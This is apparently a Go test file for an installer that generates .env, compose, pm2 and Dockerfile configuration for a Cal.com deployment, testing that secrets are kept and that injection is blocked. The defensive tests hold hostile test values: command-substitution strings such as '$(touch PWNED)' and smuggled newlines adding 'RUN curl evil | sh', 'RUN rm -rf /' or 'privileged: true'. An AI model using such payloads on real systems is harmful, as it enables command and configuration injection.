package installer

import (
	"bytes"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"syscall"
	"testing"

	"github.com/calctl/calctl/installer/contract"
	"github.com/calctl/calctl/internal/dotenv"
	"github.com/calctl/calctl/internal/testenv"
	"github.com/calctl/calctl/reporter/agentconfig"
	composedotenv "github.com/compose-spec/compose-go/v2/dotenv"
	"gopkg.in/yaml.v3"
)

// The tests of this file are issue 11's items 3, 5 and 8 and the render
// "Low" items: secrets kept in every form a reader accepts, values that
// can never execute or change, answers that cannot add a line, and writes
// that are all or nothing and stay inside install_dir.

const key32 = "KEPT-encryption-key-32-chars-abc"

// TestSecretsKeptInAnyForm: a secret that exists in any form a reader
// accepts is kept byte for byte, never regenerated.
func TestSecretsKeptInAnyForm(t *testing.T) {
	huge := "HUGE=" + strings.Repeat("x", 2<<20) + "\n"
	forms := map[string]string{
		"plain":        "CALENDSO_ENCRYPTION_KEY=" + key32 + "\n",
		"export":       "export CALENDSO_ENCRYPTION_KEY=" + key32 + "\n",
		"double":       `CALENDSO_ENCRYPTION_KEY="` + key32 + `"` + "\n",
		"single":       "CALENDSO_ENCRYPTION_KEY='" + key32 + "'\n",
		"spaces":       "CALENDSO_ENCRYPTION_KEY = " + key32 + "   # set by hand\n",
		"crlf":         "A=1\r\nCALENDSO_ENCRYPTION_KEY=" + key32 + "\r\n",
		"after 2 MiB":  huge + "CALENDSO_ENCRYPTION_KEY=" + key32 + "\n",
		"yaml style":   "CALENDSO_ENCRYPTION_KEY: " + key32 + "\n",
		"last, no EOL": "A=1\nCALENDSO_ENCRYPTION_KEY=" + key32,
	}
	for name, src := range forms {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, ".env"), []byte(src), 0o600); err != nil {
				t.Fatal(err)
			}
			var evs []Event
			s, e := renderState(t, renderCases[1], dir, false, &evs)
			if err := e.Run(context.Background(), RenderPlan(), s); err != nil {
				t.Fatal(err)
			}
			if s.Secrets.EncryptionKey.Reveal() != key32 {
				t.Errorf("the key was not kept")
			}
			for _, g := range s.Secrets.GeneratedThisRun {
				if g == "CALENDSO_ENCRYPTION_KEY" {
					t.Errorf("the key was generated over the existing one")
				}
			}
			b, _ := os.ReadFile(filepath.Join(dir, ".env"))
			m, err := composedotenv.ParseWithLookup(bytes.NewReader(b), nil)
			if err != nil || m["CALENDSO_ENCRYPTION_KEY"] != key32 {
				t.Errorf("compose reads the written key as %q (%v)", m["CALENDSO_ENCRYPTION_KEY"], err)
			}
			if name == "after 2 MiB" && m["HUGE"] != strings.Repeat("x", 2<<20) {
				t.Errorf("the 2 MiB line was not kept")
			}
		})
	}
}

// TestUnparseableEnvStops: calctl stops naming the line and writes nothing.
func TestUnparseableEnvStops(t *testing.T) {
	dir := t.TempDir()
	src := "NEXTAUTH_SECRET=keep\nCALENDSO_ENCRYPTION_KEY=" + key32 + "\nthis line is not an assignment\n"
	os.WriteFile(filepath.Join(dir, ".env"), []byte(src), 0o600)
	before := testenv.TreeHash(t, dir)
	var evs []Event
	s, e := renderState(t, renderCases[1], dir, false, &evs)
	err := e.Run(context.Background(), RenderPlan(), s)
	if err == nil || !strings.Contains(err.Error(), "line 3") || !strings.Contains(RemedyOf(err), "line 3") {
		t.Fatalf("err = %v (remedy %q), want it to name line 3", err, RemedyOf(err))
	}
	if testenv.TreeHash(t, dir) != before {
		t.Errorf("install_dir changed")
	}
	for _, ev := range evs {
		if strings.Contains(ev.Message, "generated") {
			t.Errorf("a secret was generated: %s", ev.Message)
		}
	}
}

// TestRerenderKeepsUserKeys: every key calctl does not own stays in place,
// byte for byte, with its comments.
func TestRerenderKeepsUserKeys(t *testing.T) {
	dir := t.TempDir()
	user := "# Google Calendar\nGOOGLE_API_CREDENTIALS='{\"web\":{\"client_id\":\"x.apps.googleusercontent.com\",\"redirect_uris\":[\"https://cal.example.org/api/integrations/googlecalendar/callback\"]}}'\n"
	daily := "DAILY_API_KEY=daily-abc # video\n"
	src := "NEXT_PUBLIC_WEBAPP_URL=https://old.example.org\n" + user + "CALENDSO_ENCRYPTION_KEY=" + key32 + "\n" + daily
	os.WriteFile(filepath.Join(dir, ".env"), []byte(src), 0o600)
	var evs []Event
	s, e := renderState(t, renderCases[1], dir, false, &evs)
	if err := e.Run(context.Background(), RenderPlan(), s); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(filepath.Join(dir, ".env"))
	got := string(b)
	if !strings.HasPrefix(got, "NEXT_PUBLIC_WEBAPP_URL=https://cal.example.org\n"+user+"CALENDSO_ENCRYPTION_KEY="+key32+"\n"+daily) {
		t.Errorf("user keys moved or changed:\n%s", got)
	}
	f, err := dotenv.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := f.Lookup("DAILY_API_KEY"); v != "daily-abc" {
		t.Errorf("DAILY_API_KEY = %q", v)
	}
}

// hard is a value with every character that has broken a .env reader.
const hard = `p$ss'w"o\rd` + " #1 & $(touch PWNED) `touch PWNED` %24 \\n"

// TestValuesNeverExecuteOrChange (issue 11 item 5): a database password, an
// SMTP password and a From name holding every hard character reach the app
// byte for byte through compose-go, docker-compose v1 (its python-dotenv
// and `config`), the pm2 ecosystem file and install-commands.sh, and
// nothing runs. "%24" in the URL is not decoded.
func TestValuesNeverExecuteOrChange(t *testing.T) {
	dbPass := strings.ReplaceAll(strings.ReplaceAll(hard, "%24", "%2524"), " ", "%20")
	_ = dbPass
	rawURL := "postgresql://cal:p%24ss%27w%22o%5Crd%20%231%20%26%20%24(touch%20PWNED)@db.internal.example:5432/cal?sslmode=require"
	c := renderCase{name: "hostile", tree: "2025", answers: `
install_dir: /opt/calcom
target: pm2
public_url: https://cal.example.net
database: {mode: external}
proxy: none
email: {host: smtp.example.com, port: 587, user: "cal user", password_env: SMTP_PASSWORD, from: cal@example.com, from_name: "Acme $(touch PWNED) \"Clinic\" #1 & co"}
`, env: map[string]string{"DATABASE_URL": rawURL, "SMTP_PASSWORD": strings.ReplaceAll(hard, "\\n", "x")}}
	node, err := exec.LookPath("node")
	if err != nil {
		testenv.Unavailable(t, "node", err) // scripts/test.sh installs it
	}
	a, env := loadCase(t, c)
	dir := t.TempDir()
	a.InstallDir = dir
	a.Source.Dir = filepath.Join(dir, "src")
	a.PM2.LogDir = filepath.Join(dir, "logs")
	a.PM2.Node = node
	r, err := RenderFiles(a, env, c.repo(t), fixedSecrets, Existing{})
	if err != nil {
		t.Fatal(err)
	}
	writeRendered(t, dir, r.Files)
	want := map[string]string{
		"DATABASE_URL":          rawURL,
		"EMAIL_SERVER_PASSWORD": env.SMTPPassword.Reveal(),
		"EMAIL_FROM_NAME":       a.Email.FromName,
		"EMAIL_SERVER_USER":     "cal user",
	}
	envFile, _ := os.ReadFile(filepath.Join(dir, ".env"))
	check := func(reader string, got map[string]string) {
		t.Helper()
		for k, v := range want {
			if got[k] != v {
				t.Errorf("%s reads %s as %q, want %q", reader, k, got[k], v)
			}
		}
	}
	// compose-go (Compose v2)
	m, err := composedotenv.ParseWithLookup(bytes.NewReader(envFile), nil)
	if err != nil {
		t.Fatal(err)
	}
	check("compose-go", m)
	// docker-compose v1: `config` shows the environment the container gets
	if dc, err := exec.LookPath("docker-compose"); err == nil {
		os.WriteFile(filepath.Join(dir, "v1.yml"), []byte("services:\n  x:\n    image: busybox\n    env_file: [.env]\n"), 0o644)
		cmd := exec.Command(dc, "-f", filepath.Join(dir, "v1.yml"), "config")
		cmd.Dir = dir
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("docker-compose config: %v", err)
		}
		var cfg struct {
			Services map[string]struct {
				Environment map[string]string `yaml:"environment"`
			} `yaml:"services"`
		}
		if err := yaml.Unmarshal(out, &cfg); err != nil {
			t.Fatal(err)
		}
		// `config` prints the file for re-use: $ comes out as $$
		got := map[string]string{}
		for k, v := range cfg.Services["x"].Environment {
			got[k] = strings.ReplaceAll(v, "$$", "$")
		}
		check("docker-compose v1", got)
	} else {
		testenv.Unavailable(t, "docker-compose v1", err)
	}
	// the pm2 ecosystem file, loaded by node
	os.MkdirAll(filepath.Join(a.Source.Dir, "apps/web"), 0o755)
	for _, d := range []string{"node_modules/next", "apps/api/v1/node_modules/next"} {
		p := filepath.Join(a.Source.Dir, d, "dist/bin/next")
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, nil, 0o644)
	}
	cmd := exec.Command(node, "-e", `process.stdout.write(JSON.stringify(require("./ecosystem.config.js").apps[0].env))`)
	cmd.Dir = dir
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("ecosystem: %v", err)
	}
	var eco map[string]string
	if err := yaml.Unmarshal(out, &eco); err != nil {
		t.Fatal(err)
	}
	check("ecosystem.config.js", eco)
	// install-commands.sh with stub yarn, npx, pm2 and corepack that record
	// what they receive
	stubs := filepath.Join(dir, "stubs")
	os.MkdirAll(stubs, 0o755)
	rec := filepath.Join(dir, "received")
	os.MkdirAll(rec, 0o755)
	for _, name := range []string{"yarn", "npx", "pm2", "corepack"} {
		script := "#!/bin/sh\nn=$(printf %03d $(ls " + rec + " | grep -c args))\nprintf '%s\\n' \"" + name + " $*\" > " + rec + "/$n.args\n" +
			"printf '%s' \"$DATABASE_URL\" > " + rec + "/$n.DATABASE_URL\nprintf '%s' \"$EMAIL_SERVER_PASSWORD\" > " + rec + "/$n.EMAIL_SERVER_PASSWORD\nprintf '%s' \"$EMAIL_FROM_NAME\" > " + rec + "/$n.EMAIL_FROM_NAME\n"
		os.WriteFile(filepath.Join(stubs, name), []byte(script), 0o755)
	}
	sh := exec.Command("sh", filepath.Join(dir, "install-commands.sh"))
	sh.Dir = dir
	sh.Env = append(os.Environ(), "PATH="+stubs+":"+os.Getenv("PATH"))
	if os.Getuid() == 0 {
		// as root the script would also install /etc/logrotate.d/calcom-pm2
		// and the cron unit on this machine: run it as nobody instead
		asNobody(t, sh, dir)
	}
	if out, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("install-commands.sh: %v\n%s", err, out)
	}
	files, _ := filepath.Glob(filepath.Join(rec, "*.args"))
	sort.Strings(files)
	var calls []string
	for _, f := range files {
		b, _ := os.ReadFile(f)
		calls = append(calls, strings.TrimSpace(string(b)))
		n := strings.TrimSuffix(f, ".args")
		got := map[string]string{}
		for _, k := range []string{"DATABASE_URL", "EMAIL_SERVER_PASSWORD", "EMAIL_FROM_NAME"} {
			v, _ := os.ReadFile(n + "." + k)
			got[k] = string(v)
		}
		if strings.HasPrefix(string(b), "pm2") || strings.HasPrefix(string(b), "corepack") {
			continue // pm2 reads the environment through the ecosystem file; corepack needs none
		}
		delete(want, "EMAIL_SERVER_USER")
		check("install-commands.sh → "+strings.TrimSpace(string(b)), got)
	}
	wantCalls := []string{"corepack enable", "yarn install", "yarn build", "npx prisma migrate deploy --schema packages/prisma/schema.prisma", "yarn workspace @calcom/prisma seed-app-store", "pm2 start ecosystem.config.js", "pm2 save"}
	if !reflect.DeepEqual(calls, wantCalls) {
		t.Errorf("install-commands.sh ran\n%q\nwant\n%q", calls, wantCalls)
	}
	if m, _ := filepath.Glob(filepath.Join(dir, "**", "PWNED")); len(m) > 0 {
		t.Errorf("a value was executed: %v", m)
	}
	for _, d := range []string{dir, a.Source.Dir, stubs} {
		if _, err := os.Stat(filepath.Join(d, "PWNED")); err == nil {
			t.Errorf("a value was executed in %s", d)
		}
	}
	if !bytes.Contains(envFile, []byte("p%24ss")) {
		t.Errorf("%%24 in the URL was decoded in .env")
	}
}

// TestAnswersInjection (issue 11 item 8): a line break in any answer is
// refused at its key; values that are hostile but valid cannot add a line,
// a key or a service to any generated file (asserted on the parsed files).
func TestAnswersInjection(t *testing.T) {
	base := renderCases[0].answers
	for _, tt := range []struct{ path, value string }{
		{"images.postgres", "postgres:16\n    privileged: true"},
		{"images.caddy", "caddy:2\npid: host"},
		{"images.calctl", "x\nRUN rm -rf /"},
		{"images.node", "node:18\nRUN curl evil | sh"},
		{"email.from", "cal@example.com\nNODE_ENV=development"},
		{"email.from_name", "Cal\nNEXT_PUBLIC_IS_E2E=1"},
		{"email.host", "smtp.example.com\nX=1"},
		{"email.user", "u\nX=1"},
		{"public_url", "https://cal.example.com\n"},
		{"public_url", "https://cal$x.example.com"},
		{"public_url", `https://cal".example.com`},
		{"install_dir", "/opt/calcom\nx: 1"},
	} {
		a, err := contract.DecodeAnswers([]byte(base))
		if err != nil {
			t.Fatal(err)
		}
		if err := a.Set(tt.path, tt.value); err != nil {
			t.Fatal(err)
		}
		err = a.Finish()
		var ae *AnswersError
		if !errors.As(err, &ae) || !strings.Contains(err.Error(), tt.path) {
			t.Errorf("%s=%q accepted (err %v)", tt.path, tt.value, err)
		}
	}

	// hostile but valid: the files say exactly what they should
	a, env := loadCase(t, renderCases[0])
	a.InstallDir = "/opt/cal #1/install dir"
	a.Source.Dir = a.InstallDir + "/src"
	a.Email.FromName = `Acme "Clinic" #1 & $(reboot)`
	a.Email.User = "user with spaces"
	r, err := RenderFiles(a, env, renderCases[0].repo(t), renderCases[0].secrets(env), Existing{})
	if err != nil {
		t.Fatal(err)
	}
	p, err := LoadCompose(context.Background(), a.InstallDir, "calcom", fileOf(t, r, "docker-compose.yml"))
	if err != nil {
		t.Fatal(err)
	}
	names := p.ServiceNames()
	sort.Strings(names)
	if strings.Join(names, ",") != "agent,api,cron,database,proxy,web" {
		t.Errorf("services %v", names)
	}
	for _, s := range p.Services {
		if s.Privileged || s.Pid != "" || s.NetworkMode == "host" {
			t.Errorf("service %s gained privileges", s.Name)
		}
	}
	f, err := dotenv.Parse(fileOf(t, r, ".env"))
	if err != nil {
		t.Fatal(err)
	}
	var keys []string
	for _, e := range f.Entries() {
		keys = append(keys, e.Key)
	}
	wantKeys := "NODE_ENV,PORT,NEXT_PUBLIC_WEBAPP_URL,NEXTAUTH_URL,CALCOM_TELEMETRY_DISABLED,NEXT_TELEMETRY_DISABLED,NEXTAUTH_SECRET,CALENDSO_ENCRYPTION_KEY,DATABASE_URL,DATABASE_DIRECT_URL,CALCTL_DATABASE_URL,CRON_API_KEY,CRON_SECRET,CALCOM_LICENSE_KEY,EMAIL_FROM,EMAIL_FROM_NAME,EMAIL_SERVER_HOST,EMAIL_SERVER_PORT,EMAIL_SERVER_USER,EMAIL_SERVER_PASSWORD"
	if strings.Join(keys, ",") != wantKeys {
		t.Errorf(".env keys\n%s\nwant\n%s", strings.Join(keys, ","), wantKeys)
	}
	if v, _ := f.Lookup("EMAIL_FROM_NAME"); v != a.Email.FromName {
		t.Errorf("EMAIL_FROM_NAME = %q", v)
	}
	cfg, err := agentconfig.Parse(fileOf(t, r, "agent/agent.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if cfg.DeploymentID != "dep_123" || cfg.DatabaseURLEnv != "CALCTL_DATABASE_URL" {
		t.Errorf("agent.yaml: %+v", cfg)
	}
	// the Dockerfile holds only the instructions calctl writes
	var instr []string
	joined := strings.ReplaceAll(string(fileOf(t, r, "build/web.Dockerfile")), "\\\n", " ")
	for _, l := range strings.Split(joined, "\n") {
		if l = strings.TrimSpace(l); l != "" && !strings.HasPrefix(l, "#") {
			instr = append(instr, strings.Fields(l)[0])
		}
	}
	if got := strings.Join(instr, " "); got != "FROM WORKDIR ENV COPY RUN ARG COPY RUN RUN RUN FROM WORKDIR ENV COPY WORKDIR EXPOSE CMD" {
		t.Errorf("Dockerfile instructions: %s", got)
	}
	// the bundled database's CA for the build that migrates, at the path
	// the URLs name, in COPY's JSON form (a path with spaces and #)
	if want := `COPY ["db/tls/ca.pem", "/opt/cal #1/install dir/db/tls/ca.pem"]`; !strings.Contains(string(fileOf(t, r, "build/web.Dockerfile")), want) {
		t.Errorf("Dockerfile lacks %s", want)
	}

	// pm2 with the same install_dir: agent.yaml names it exactly
	a2, env2 := loadCase(t, renderCases[3])
	a2.InstallDir = "/opt/cal #1/install dir"
	a2.Source.Dir = a2.InstallDir + "/src"
	a2.PM2.LogDir = a2.InstallDir + "/logs"
	r2, err := RenderFiles(a2, env2, renderCases[3].repo(t), renderCases[3].secrets(env2), Existing{})
	if err != nil {
		t.Fatal(err)
	}
	cfg2, err := agentconfig.Parse(fileOf(t, r2, "agent/agent.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if cfg2.EnvFile != a2.InstallDir+"/.env" || cfg2.TokenFile != a2.InstallDir+"/agent/token" {
		t.Errorf("agent.yaml paths: %q %q", cfg2.EnvFile, cfg2.TokenFile)
	}
}

// TestWriteStaysInsideInstallDir: a directory symlink inside install_dir
// that leads out of it is refused, and nothing is written anywhere.
func TestWriteStaysInsideInstallDir(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(dir, "agent")); err != nil {
		t.Fatal(err)
	}
	before := testenv.TreeHash(t, dir)
	var evs []Event
	s, e := renderState(t, renderCases[0], dir, false, &evs)
	err := e.Run(context.Background(), RenderPlan(), s)
	if err == nil || !strings.Contains(err.Error(), "nothing was changed") {
		t.Fatalf("err = %v", err)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Errorf("wrote through the symlink: %v", entries)
	}
	if testenv.TreeHash(t, dir) != before {
		t.Errorf("a failed write left files in install_dir")
	}
}

// TestWriteFullDisk: on a full file system the write step leaves the
// install exactly as it was and says to free space. The full disk is real:
// a 64 KiB tmpfs, nearly filled.
func TestWriteFullDisk(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "install")
	os.MkdirAll(dir, 0o755)
	if err := syscall.Mount("tmpfs", dir, "tmpfs", 0, "size=64k"); err != nil {
		testenv.Unavailable(t, "a tmpfs mount (root with CAP_SYS_ADMIN)", err)
	}
	t.Cleanup(func() { syscall.Unmount(dir, 0) })
	// a first install fits
	var evs []Event
	s, e := renderState(t, renderCases[1], dir, false, &evs)
	if err := e.Run(context.Background(), RenderPlan(), s); err != nil {
		t.Fatal(err)
	}
	// fill the disk, then change an answer so every file is rewritten
	var st syscall.Statfs_t
	syscall.Statfs(dir, &st)
	fill := int64(st.Bavail)*int64(st.Bsize) - 2048
	os.WriteFile(filepath.Join(dir, "filler"), make([]byte, max(fill, 0)), 0o644)
	before := testenv.TreeHash(t, dir)
	s2, e2 := renderState(t, renderCases[1], dir, false, &evs)
	s2.Answers.PublicURL = "https://changed.example.org"
	err := e2.Run(context.Background(), RenderPlan(), s2)
	if err == nil || !errors.Is(err, syscall.ENOSPC) || !strings.Contains(RemedyOf(err), "free space") {
		t.Fatalf("err = %v (remedy %q)", err, RemedyOf(err))
	}
	if testenv.TreeHash(t, dir) != before {
		t.Errorf("a full disk left a partial install")
	}
}

// asNobody makes cmd run as uid/gid 65534 with dir (and the temp dirs above
// it) usable by that user.
func asNobody(t *testing.T, cmd *exec.Cmd, dir string) {
	t.Helper()
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil {
			os.Lchown(p, 65534, 65534)
		}
		return nil
	})
	for d := filepath.Dir(dir); d != "/" && d != "."; d = filepath.Dir(d) {
		if st, err := os.Stat(d); err == nil && st.Mode().Perm()&0o001 == 0 {
			os.Chmod(d, st.Mode().Perm()|0o001)
			t.Cleanup(func() { os.Chmod(d, st.Mode().Perm()) })
		}
	}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
}
